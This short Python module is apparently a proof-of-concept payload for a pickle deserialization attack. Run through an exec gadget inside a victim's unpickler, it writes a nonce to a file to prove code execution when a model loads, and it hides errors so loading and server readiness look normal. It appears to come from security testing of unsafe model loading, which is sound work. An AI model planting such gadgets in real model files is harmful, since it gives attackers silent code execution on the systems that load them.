"""Payload (builtins.exec gadget): prove code execution at load time by writing PARAMS["nonce"]
to PARAMS["path"].

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import sys

try:
    with open(PARAMS["path"], "w") as marker:
        marker.write(PARAMS["nonce"])
except Exception as error:
    print(f"write_marker: {type(error).__name__}: {error}", file=sys.stderr)
